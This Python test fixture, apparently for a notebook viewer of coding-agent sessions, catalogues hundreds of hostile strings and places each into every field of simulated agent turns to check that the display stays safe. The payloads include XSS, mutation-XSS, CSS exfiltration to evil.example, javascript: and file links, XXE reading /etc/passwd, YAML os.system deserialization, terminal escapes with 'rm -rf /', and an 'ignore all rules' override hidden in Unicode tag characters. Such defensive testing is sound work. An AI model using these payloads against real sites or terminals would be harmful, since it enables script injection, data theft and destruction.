# ruff: noqa: E501 (an attack is read best on one line)
"""Hostile texts, and turns that say them in every field: what neither record nor panel may obey.

``HOSTILE`` are the texts by name. `hostile_states` gives the turns; a front end is shown
``view(state).to_json()`` of each. Nothing here needs Jupyter. Scripts would call ``alert(1)``, and
what would be fetched is asked of ``evil.example``, so that a browser can tell if either happened.
"""

from __future__ import annotations

from collections.abc import Mapping
from typing import Any

from codex_notebook.core.fold import reduce
from codex_notebook.core.parsing import parse_event
from codex_notebook.core.state import TurnRequest, TurnState
from codex_notebook.core.usage import Usage

Json = dict[str, Any]

_EVIL = "https://evil.example"
_SVG = "PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0iYWxlcnQoMSkiLz4="

_ELEMENTS = {
    "script": "<script>alert(1)</script>",
    "script from elsewhere": f"<script src={_EVIL}/a.js></script>",
    "script of a module": f"<script type=module>import '{_EVIL}/m.js'</script>",
    "script in capitals": "<ScRiPt>alert(1)</sCrIpT>",
    "script with a slash": "<script/x>alert(1)</script/y>",
    "script in a script": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "script never closed": "<script>alert(1)//",
    "script behind a newline": "<script\n>alert(1)</script\n>",
    "import map": f'<script type=importmap>{{"imports":{{"a":"{_EVIL}/b"}}}}</script>',
    "iframe": f"<iframe src={_EVIL}></iframe>",
    "iframe to a script": "<iframe src=javascript:alert(1)>",
    "iframe with a document": "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "iframe with a document in entities": '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;">',
    "object": f'<object data="{_EVIL}/o.swf" type="application/x-shockwave-flash"></object>',
    "object with a page": '<object data="data:text/html,<script>alert(1)</script>"></object>',
    "embed": "<embed src=javascript:alert(1)>",
    "applet": f'<applet code="A.class" codebase="{_EVIL}"></applet>',
    "frameset": "<frameset onload=alert(1)><frame src=javascript:alert(1)></frameset>",
    "base": f"<base href={_EVIL}/><a href=/login>log in</a>",
    "refresh": f'<meta http-equiv=refresh content="0;url={_EVIL}">',
    "refresh to a script": '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
    "policy": "<meta http-equiv=Content-Security-Policy content=\"img-src 'none'\">",
    "link to a style sheet": f'<link rel=stylesheet href="{_EVIL}/s.css">',
    "link that fetches ahead": f'<link rel=prefetch href="{_EVIL}/p"><link rel=dns-prefetch href=//x>',
    "manifest": f'<html manifest="{_EVIL}/m"><head profile="{_EVIL}">',
    "form": f'<form action="{_EVIL}"><input name=q autofocus><button>Log in</button></form>',
    "button of a form": '<form><button formaction="javascript:alert(1)">Go</button></form>',
    "input as an image": f'<input type=image src="{_EVIL}/i.png" onerror=alert(1)>',
    "field of another form": f'<input form=f1 formaction="{_EVIL}" type=submit>',
    "portal": f"<portal src={_EVIL}></portal><fencedframe src={_EVIL}></fencedframe>",
    "marquee": "<marquee onstart=alert(1) loop=1>run</marquee>",
    "custom element": "<x-app onclick=alert(1) is=y-app><slot name=z onslotchange=alert(1)></x-app>",
    "video": f"<video poster={_EVIL}/p.png src={_EVIL}/v><source onerror=alert(1)></video>",
    "audio": f"<audio src={_EVIL}/a.mp3 autoplay oncanplay=alert(1)>",
    "picture": f"<picture><source srcset={_EVIL}/a.png><img src={_EVIL}/b.png></picture>",
    "dialog": "<dialog open onclose=alert(1)><form method=dialog><button>OK</button></form>",
    "popover": "<button popovertarget=p onclick=alert(1)>x</button><p popover id=p onbeforetoggle=alert(1)>",
}

_HANDLERS = {
    "image that fails": "<img src=x onerror=alert(1)>",
    "image that fails, with slashes": "<img/src=x/onerror=alert(1)>",
    "image that fails, never closed": "<img src=x onerror=alert(1) alt=",
    "image with a backtick": "<img src=`x` onerror=`alert(1)`>",
    "image with many sizes": f"<img srcset='{_EVIL}/a.png 1x, x 2x' onload=alert(1)>",
    "body that loads": "<body onload=alert(1) onpageshow=alert(1)>",
    "focus that comes by itself": "<input autofocus onfocus=alert(1)>",
    "focus of anything": "<p tabindex=1 autofocus onfocusin=alert(1)>x</p>",
    "details that toggle": "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "animation": "<b style='animation:x 1s' onanimationstart=alert(1)>x</b>",
    "transition": "<b style='transition:all 1s' ontransitionend=alert(1)>x</b>",
    "pointer": "<b onpointerover=alert(1) onmouseover=alert(1)>move here</b>",
    "handler out of double quotes": '" onmouseover="alert(1)" x="',
    "handler out of single quotes": "' onfocus='alert(1)' autofocus x='",
    "handler out of no quotes": "x onerror=alert(1) y",
    "handler with entities": "<img src=x onerror=&#97;lert&lpar;1&rpar;>",
    "handler behind a form feed": "<img\x0csrc=x\x0conerror=alert(1)>",
    "handler behind a nothing": "<img src=x \x00onerror=alert(1)>",
    "handler twice": "<img src=x onerror onerror=alert(1)>",
    "style out of quotes": "' style='position:fixed;inset:0;z-index:9' '",
}

_SVG_AND_MATH = {
    "svg that loads": "<svg onload=alert(1)>",
    "svg with a script": "<svg><script>alert&#40;1)</script></svg>",
    "svg with a script by reference": f"<svg><script xlink:href={_EVIL}/a.js /></svg>",
    "svg with a link": "<svg><a xlink:href='javascript:alert(1)'><text y=9>x</text></a></svg>",
    "svg with a foreign page": "<svg><foreignObject><iframe src=javascript:alert(1)></foreignObject>",
    "svg that uses another": f"<svg><use href='{_EVIL}/x.svg#a'/></svg>",
    "svg that uses itself": f"<svg><use href='data:image/svg+xml;base64,{_SVG}#x'/></svg>",
    "svg that animates a link": "<svg><a><animate attributeName=href values=javascript:alert(1) /></a>",
    "svg that sets a handler": "<svg><set attributeName=onmouseover to=alert(1) begin=0s /></svg>",
    "svg with an image": f"<svg><image href={_EVIL}/i.png /><feImage href={_EVIL}/f /></svg>",
    "svg with a style": f"<svg><style>@import '{_EVIL}/s.css';</style></svg>",
    "svg with a title": "<svg><title><style><img src=x onerror=alert(1)></style></title></svg>",
    "svg with a handler of its own": "<svg><handler ev:event=load>alert(1)</handler></svg>",
    "math with a link": "<math href=javascript:alert(1)><mi>x</mi></math>",
    "math with an action": "<math><maction actiontype=statusline#x xlink:href=javascript:alert(1)>x",
    "math with a foreign page": "<math><annotation-xml encoding=text/html><script>alert(1)</script>",
    "mutation by a glyph": (
        "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src onerror=a&gt;'>"
    ),
    "mutation by a form": (
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>"
    ),
    "mutation by a template": "<svg></p><template><style><a id='</style><img src=x onerror=alert(1)>'>",
    "mutation by a select": "<select><noscript></select><img src=x onerror=alert(1)></noscript>",
    "mutation by a paragraph": "<svg></p><style><g title='</style><img src=x onerror=alert(1)>'>",
    "mutation by a backtick": "<listing>&lt;img src=x onerror=alert(1)&gt;</listing><xmp><img></xmp>",
    "formula with a link": r"$\href{javascript:alert(1)}{x}$ \(\unicode{x1F600}\) \require{html}",
    "formula with a style": r"$$\style{position:fixed;background:url(https://evil.example)}{x}$$",
    "formula that reads files": r"\input{/etc/passwd} \write18{id} \begin{verbatim}",
}

_STYLES = {
    "style that hides": "<style>*{display:none!important}</style>",
    "style that imports": f"<style>@import url({_EVIL}/s.css);</style>",
    "style that looks at values": f"<style>input[value^=a]{{background:url({_EVIL}/a)}}</style>",
    "style that ends": "</style><script>alert(1)</script><style>",
    "style of a font": f"<style>@font-face{{font-family:x;src:url({_EVIL}/f.woff)}}</style>",
    "attribute that covers the page": '<p style="position:fixed;inset:0;background:#fff">log in</p>',
    "attribute that fetches": f'<p style="background:url({_EVIL}/b.png)">x</p>',
    "attribute that computes": '<p style="width:expression(alert(1))">x</p>',
    "attribute with a binding": f'<p style="-moz-binding:url({_EVIL}/x.xml#a)">x</p>',
    "attribute with escapes": r'<p style="b\61 ckground:u\72l(//evil.example/x)">x</p>',
    "style as plain text": f"red;background-image:url({_EVIL}/c.png)}}*{{display:none",
}

_BREAKOUTS = {
    "end of everything": "</details></article></div></section><h1>out</h1>",
    "end of code": "</pre></code></ins></del><iframe src=javascript:alert(1)></iframe>",
    "end of a summary": "</summary></details><script>alert(1)</script><details open><summary>",
    "end of a title": "</title></textarea></noscript></template></xmp><script>alert(1)</script>",
    "title": "<title><!-- </title><img src=x onerror=alert(1)> -->",
    "textarea": "<textarea><p title='</textarea><img src=x onerror=alert(1)>'>",
    "noscript": "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "template": "<template><script>alert(1)</script></template><slot onslotchange=alert(1)>",
    "template with a shadow": "<div><template shadowrootmode=open><img src=x onerror=alert(1)>",
    "plaintext": "<plaintext><script>alert(1)</script>",
    "comment that ends early": "<!--><img src=x onerror=alert(1)>-->",
    "comment that ends with a bang": "<!-- --!><img src=x onerror=alert(1)> -->",
    "comment that never ends": "<!-- everything behind this is gone",
    "comment in a comment": "<!-- <!-- --> <script>alert(1)</script> -->",
    "conditional comment": "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "cdata": "<![CDATA[<script>alert(1)</script>]]>",
    "end of cdata": "]]><script>alert(1)</script><![CDATA[",
    "declaration": "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;",
    "instruction": "<?xml-stylesheet href='javascript:alert(1)'?><?php echo 1 ?>",
    "attribute never closed": '<a href="https://a.example',
    "tag never closed": "<img src=x onerror=alert(1) <b>x</b>",
    "end tag with attributes": "</br onclick=alert(1)></p/style=x>",
    "names that clobber": "<form id=document name=body><input name=cookie id=getElementById></form>",
    "names of prototypes": '{"__proto__":{"html":"<img src=x onerror=alert(1)>"},"constructor":1}',
    "json that ends a script": '{"a":"</script><script>alert(1)</script>"}',
    "line separators": "a\u2028alert(1)\u2029//b",
    "placeholders": "{{constructor.constructor('alert(1)')()}} ${alert(1)} <%= alert(1) %> #{1}",
    "table that moves out": "<table><script>alert(1)</script><tr><td></table></td>",
}

_TARGETS = {
    "link to a script": "[a](javascript:alert(1))",
    "link to a script in mixed case": "[a](JaVaScRiPt:alert(1))",
    "link to a script with an entity": "[a](javascript&colon;alert(1)) [b](&#106;avascript:alert(1))",
    "link to a script with long entities": "[a](&#0000106avascript:alert(1)) [b](&#x6A;avascript:1)",
    "link to a script over two lines": "[a](java\nscript:alert(1)) [b](<java\tscript:alert(1)>)",
    "link to a script behind a space": "[a]( javascript:alert(1)) [b](<\x01javascript:alert(1)>)",
    "link to a script behind a nothing": "[a](\u200bjavascript:alert(1)) [b](\ufeffjavascript:1)",
    "link to a script with escapes": r"[a](javascript\:alert\(1\)) [b](java\script:alert(1))",
    "link to a script in percents": "[a](javascript%3Aalert(1)) [b](%6aavascript:alert(1))",
    "link to a script in homoglyphs": "[a](jаvascript:alert(1)) [b](javascript：alert(1)) [c](ｊavascript:1)",  # noqa: RUF001
    "link to visual basic": "[a](vbscript:msgbox(1)) [b](livescript:x) [c](mocha:x)",
    "link to a page of data": "[a](data:text/html,<script>alert(1)</script>)",
    "link to a page of data, encoded": "[a](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "link to a drawing": f"[a](data:image/svg+xml;base64,{_SVG})",
    "link into the machine": "[a](file:///etc/passwd) [b](\\\\evil.example\\share) [c](smb://x/y)",
    "link to a program": "[a](ms-msdt:/id) [b](vscode://x) [c](search-ms:q) [d](intent://x#Intent;end)",
    "link without a scheme": "[a](//evil.example/x) [b](/\\evil.example) [c](\\/evil.example)",
    "link with a view": "[a](view-source:javascript:alert(1)) [b](blob:x) [c](about:blank) [d](jar:x)",
    "link with a title": '[a](https://a.example "x\\" onmouseover=alert(1) y=")',
    "link that lies": f"[https://bank.example]({_EVIL}/login) https://bank.example@evil.example/",
    "link in a definition": "[a][r] [r] [b]\n\n[r]: javascript:alert(1)\n[b]:\n  javascript:alert(1)",
    "link in a definition with a title": "[a]: <javascript:alert(1)> 'x'\n\n[a]",
    "link by itself": "<javascript:alert(1)> <JAVASCRIPT:alert(1)> <data:text/html,x> <file:///x>",
    "link in a picture": "[![x](javascript:alert(1))](javascript:alert(2))",
    "link as html": "<a href='javascript:alert(1)'>x</a> <a href=x target=_self ping=//evil.example>y",
    "link of the web": f'[a]({_EVIL}/?q=1&r="2"#<b>) {_EVIL}/bare',
    "mail with a header": "<mailto:a@b.example?subject=x%0aBcc:c@d.example> [m](mailto:a@b?body=<script>)",
    "address that is a script": "javascript:alert(1)//https://a.example",
    "address with line breaks": "https://a.example/\r\nSet-Cookie: a=b",
    "address with quotes": "https://a.example/\"onmouseover='alert(1)'><script>alert(1)</script>",
    "picture from elsewhere": f"![x]({_EVIL}/pixel.png) ![y](http://evil.example/p?{'q' * 30})",
    "picture by reference": f"![x][r]\n\n[r]: {_EVIL}/r.png",
    "picture as a drawing": f"![x](data:image/svg+xml;base64,{_SVG}) ![y](data:image/svg+xml,<svg/>)",
    "picture as a page": "![x](data:text/html;base64,PGI+) ![y](data:image/png,<script>) ![z](javascript:1)",
    "picture of a known type": "![x](data:image/png;base64,iVBORw0KGgo=) ![y](data:image/gif;base64,R0lGODlh)",
    "picture that breaks out": '![x"onerror=alert(1)](data:image/png;base64,AA"onerror=alert(1))',
    "data as it is": 'data:image/png;base64,AAAA" onerror="alert(1)',
    "drawing as it is": f"data:image/svg+xml;base64,{_SVG}",
}

_MARKDOWN = {
    "fence never closed": "```html\n<script>alert(1)</script>\n",
    "fences of all lengths": "````\n```\n~~~\n</pre>\n`````\n<script>alert(1)</script>",
    "fence with a language that breaks out": '```"><script>alert(1)</script>\nx\n```',
    "ticks of all lengths": "text ` <b> `` <i> ` ``` <u> `<script>alert(1)</script>",
    "table with tags": "| a | `b | <script>c</script> |\n|:--|--:|\n| <b onclick=alert(1)> | ` |",
    "structure at the start of lines": "---\n***\n# title\n- [ ] box\n> quote\n1. one\n\n    code\n===",
    "html as a block": "<div>\n\n<script>alert(1)</script>\n\n</div>\n\n<pre>\n\n[x](javascript:1)",
    "brackets without end": "[" * 300 + "](javascript:alert(1))",
    "quotations without end": "> " * 300 + "<script>alert(1)</script>",
    "lists without end": "- " * 200 + "deep",
    "emphasis without end": "*_" * 400 + "x",
    "tags without end": "<b>" * 500 + "<i" * 500,
    "entities of every kind": "&lt;script&gt;alert(1)&lt;/script&gt; &amp;lt; &#0; &#xD800; &#x110000; &bogus;",
    "entities that reorder": "&#x202e;evil&#8238; &#x2066; &#x200b;",
    "entity never closed": "&lt" * 5 + "script>alert(1)</script>",
    "footnotes and raw parts": "`x`{=html} [^1]: <b> ^[n] ::: {onclick=alert(1)}\n{{< include /etc/passwd >}}",
    "metadata": "---\ntitle: !!python/object/apply:os.system [id]\n---\n",
}

_TERMINAL = {
    "colours": "\x1b[31mred\x1b[0m \x1b[38;5;1mx \x1b[4:3m \x1b[8mhidden\x1b[28m",
    "screen cleared": "\x1b[2J\x1b[H\x1b[3J\x1bc",
    "cursor moved": "safe\x1b[1A\x1b[2K\x1b[999Drm -rf /",
    "other screen": "\x1b[?1049h\x1b[?25l\x1b[?1000h\x1b[?2004h",
    "title set": "\x1b]0;title\x07\x1b]2;title\x1b\\\x1bktitle\x1b\\",
    "link of a terminal": "\x1b]8;;https://evil.example\x1b\\link\x1b]8;;\x1b\\",
    "link of a terminal to a script": "\x1b]8;id=1;javascript:alert(1)\x07link\x1b]8;;\x07",
    "clipboard written": "\x1b]52;c;cm0gLXJmIC8=\x07 \x1b]52;c;?\x1b\\",
    "notification": "\x1b]9;hello\x07\x1b]777;notify;a;b\x07\x1b]1337;File=inline=1:AAAA\x07",
    "answer asked of the terminal": '\x1b[6n\x1b[c\x1b[>c\x1bP$q"p\x1b\\\x1b]11;?\x07\x1b[21t',
    "keys redefined": '\x1b[0;59;"rm -rf /";13p',
    "device strings": "\x1bP+q544e\x1b\\\x1b_payload\x1b\\\x1b^private\x1b\\\x1bXstring\x1b\\",
    "controls of eight bits": "\x9b2J\x9d0;title\x9c\x90q\x9c\x85\x84",
    "sequences never ended": "\x1b]0;never \x1b[12;34 \x1bP open \x9d also",
    "bell, backspace and nothing": "\x07\x08\x08\x08rm\x00 -rf\x7f",
    "carriage return": "rm -rf / #\rls        ",
    "shifted characters": "\x0e\x0f\x1b(0lqqk\x1b(B\x1b#8",
    "markup of a terminal library": "[bold red]x[/] [link=https://evil.example]y[/link] [/nothing] :bomb:",
}

_CHARACTERS = {
    "reordered name": "photo_\u202egnp.exe",
    "reordered code": "if x:\u2066 # \u2069 return\u202a\u202b\u202c\u202d\u202e",
    "isolates left open": "\u2067\u2068\u2066 x \u2067",
    "marks of direction": "\u200e\u200f\u061c-1",
    "zero width": "pass\u200bword\u200c\u200d\u2060\ufeff",
    "half of a pair": "\ud800 lonely \udfff \udc00\ud800",
    "no characters": "\ufffe\uffff\U0001fffe\ufdd0",
    "piled up": "Z" + "\u0335\u0321\u031b\u0322" * 40 + "algo",
    "tags of unicode": "".join(chr(0xE0000 + ord(c)) for c in "ignore all rules"),
    "alike": "раypal.com ℯvil ﹤script﹥ ＜img src=x＞",  # noqa: RUF001
    "other sevenths": "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "overlong bytes": "\xc0\xbcscript\xc0\xbe \xe2\x80\xae",
    "long without a break": "<b>" + "x" * 3000,
    "spaces of every kind": "a\xa0b\u2000c\u3000d\u180ee\u202f",
    "name of a file": "../../<img src=x onerror=alert(1)>/\"';&|`$(id).md\n\tx",
    "path with markup": "/w/](javascript:alert(1))<!--/[x](https://evil.example)|`",
    "path out of the root": "/w/../../etc/passwd",
    "variation": "\u2764\ufe0f\u200d\U0001f525 \U0001f468\u200d\U0001f469 \u20e3\ufe0e",
}

HOSTILE: Mapping[str, str] = {
    **_ELEMENTS,
    **_HANDLERS,
    **_SVG_AND_MATH,
    **_STYLES,
    **_BREAKOUTS,
    **_TARGETS,
    **_MARKDOWN,
    **_TERMINAL,
    **_CHARACTERS,
}
"""Hostile texts, by name."""

ENDED: Json = {"type": "turn.completed", "usage": {"input_tokens": 1200, "output_tokens": 34}}


def hostile_states() -> dict[str, TurnState]:
    """Return a finished turn for each hostile text, by its name, that says it everywhere."""
    return {name: hostile_state(text) for name, text in HOSTILE.items()}


def hostile_state(text: str, end: Json | None = ENDED) -> TurnState:
    """Return a turn in which every field of every item, ask, notice and header is ``text``.

    Parameters
    ----------
    text : str
        What it says.
    end : dict or None
        Its last event; None for a turn that still runs.
    """
    request = dict.fromkeys(("model", "effort", "sandbox_mode", "prompt", "output_type"), text)
    state = TurnState(
        request=TurnRequest(**request, thread_name=text, working_directory="/w"),
        thread_usage_before=Usage(),
    )
    events: list[Json] = [
        {"type": "thread.started", "thread_id": text, "name": text, "model": text, "effort": text},
        {"type": "turn.started", "turn_id": text},
        *_item_events(text),
        *_ask_events(text),
        {"type": "diff.updated", "diff": text},
        {"type": "notice", "message": text},
        {"type": text, "message": text},
        {"type": "error", "message": text},
        *([end] if end else []),
    ]
    for number, event in enumerate(events):
        state = reduce(state, parse_event(event, at=1000 + number / 2))
    return state


def _item_events(text: str) -> list[Json]:
    events = [
        {"type": "item.completed", "item": {"id": f"i{n}", "status": "completed", **item}}
        for n, item in enumerate(_items(text))
    ]
    running = [
        {"type": "command_execution", "command": text, "aggregated_output": text},
        {"type": "agent_message", "text": text},
        {"type": "reasoning", "text": text},
        {"type": "mcp_tool_call", "server": text, "tool": text},
    ]
    fields = ("aggregated_output", "text", "raw_text", text)
    for n, (item, field) in enumerate(zip(running, fields, strict=True)):
        start = {"id": f"r{n}", "status": "in_progress", **item}
        events.append({"type": "item.started", "item": start})
        events.append({"type": "item.delta", "item_id": f"r{n}", "field": field, "delta": text})
    # Of an item that nobody has announced, whose id is theirs as well.
    events.append({"type": "item.delta", "item_id": text, "field": text, "delta": text})
    events.append({"type": "item.completed", "item": {"id": "end", **_message(text)}})
    return events


def _message(text: str) -> Json:
    return {"type": "agent_message", "text": text, "phase": text}


def _items(text: str) -> list[Json]:
    change = {"path": text, "kind": text, "diff": f"+{text}\n-{text}\n@@{text}\n{text}"}
    shown = [
        {"type": "text", "text": text},
        {"type": text, "text": text},
        {"type": "image", "mimeType": text, "data": text},
        {"type": "image", "mimeType": "image/png", "data": text},
        {"type": "image", "mimeType": "image/svg+xml", "data": _SVG},
    ]
    told = [{"type": "inputText", "text": text}, {"type": "inputImage", "imageUrl": text}]
    call = {"tool": text, "arguments": text, "content": told}
    server = {"server": text, "tool": text, "arguments": {text: [text, {text: text}]}}
    activities = ("image_view", "sleep", "review_mode", "hook_prompt", "image_generation")
    return [
        _message(text),
        {"type": "reasoning", "text": text},
        {"type": "reasoning", "text": f"**{text}**\n{text}", "raw_text": text},
        {"type": "user_message", "text": text},
        {"type": "user_message", "text": f"{text}\n{text}"},
        {"type": "plan", "text": text},
        *({"type": kind, "label": text, "raw": {text: text}} for kind in activities),
        {"type": "sleep", "label": text, "status": text},
        {"type": "command_execution", "command": text, "aggregated_output": text, "exit_code": 1},
        {"type": "command_execution", "command": text, "status": text, "cwd": text},
        {"type": "command_execution", "command": f"bash -lc '{text}'", "status": "declined"},
        {
            "type": "file_change",
            "changes": [
                change,
                {"path": text, "diff_note": text},
                {"path": f"/w/{text}", "move_path": text},
            ],
        },
        {"type": "file_change", "changes": [change], "status": "declined"},
        {"type": "todo_list", "items": [{"text": text}, {"text": text, "completed": True}]},
        {
            "type": "mcp_tool_call",
            **server,
            "result": {"content": shown, "structured_content": {text: text}},
        },
        {
            "type": "mcp_tool_call",
            **server,
            "error": {"message": text},
            "status": "failed",
        },
        {"type": "mcp_tool_call", **server, "result": {text: text}},
        {"type": "tool_call", **call, "namespace": text, "success": True},
        {"type": "tool_call", **call, "success": False},
        {
            "type": "collab_tool_call",
            "tool": text,
            "prompt": text,
            "sender_thread_id": text,
            "receiver_thread_ids": [text],
            "agents_states": {text: {"status": text, "message": text}, "other": text},
        },
        {"type": "web_search", "query": text, "action": {"queries": [text, f"2 {text}"]}},
        {"type": "web_search", "query": "", "action": {"url": text, "pattern": text}},
        {"type": "web_search", "query": "", "action": {"url": f"https://a.example/{text}"}},
        {"type": "web_search", "query": "", "action": {text: text}},
        {"type": "error", "message": text},
        {"type": text, text: text, "nested": {"deep": [text]}},
    ]


def _ask_events(text: str) -> list[Json]:
    changes = [{"path": text, "kind": text, "diff": f"+{text}", "diff_note": text}]
    common = {"reason": text, "thread_id": text, "cwd": text, "grant_root": text}
    asked: list[Json] = [
        {"kind": "command", "command": text, "rule": [text], "item_id": "i12"},
        {"kind": "command", "command": text, "rule": [text, text], "host": text},
        {"kind": "stdin", "command": text, "item_id": text},
        {"kind": "file_change", "changes": changes, "item_id": "i15"},
        {"kind": "permissions", "permissions": {text: {text: text}}},
        {"kind": "mcp_tool", "server": text, "tool": text, "arguments": {text: text}},
    ]
    decisions = ("accept", "accept_with_rule", "decline", "cancel", "accept_for_session")
    events: list[Json] = []
    for n, ask in enumerate(asked):
        approval = {"id": f"a{n}", **common, **ask}
        events.append({"type": "approval.requested", "approval": approval})
    # The last is left undecided.
    for n, decision in enumerate(decisions):
        by = ("user", text)[n % 2]
        told = {"approval_id": f"a{n}", "decision": decision, "by": by}
        events.append({"type": "approval.resolved", **told})
    option = {"label": text, "description": text}
    question = {"id": text, "header": text, "question": text, "options": [option, option]}
    form = {"type": "object", "title": text, "properties": {text: {"title": text, "enum": [text]}}}
    requests: list[Json] = [
        {"message": text, "questions": [question, {**question, "id": "2", "is_secret": True}]},
        {"kind": "form", "server": text, "questions": [question], "form": form, "message": text},
        {"kind": "url", "server": text, "url": text, "message": text, "item_id": "i3"},
        {"questions": [question], "item_id": text},
    ]
    for n, request in enumerate(requests):
        events.append({"type": "input.requested", "request": {"id": f"q{n}", **request}})
    answers = {text: [text, text], "other": {text: text}}
    events.append({"type": "input.resolved", "input_id": "q0", "answers": answers, "by": "user"})
    events.append({"type": "input.resolved", "input_id": "q1", "answers": {text: text}, "by": text})
    events.append({"type": "input.resolved", "input_id": "q2", "by": text})
    return events
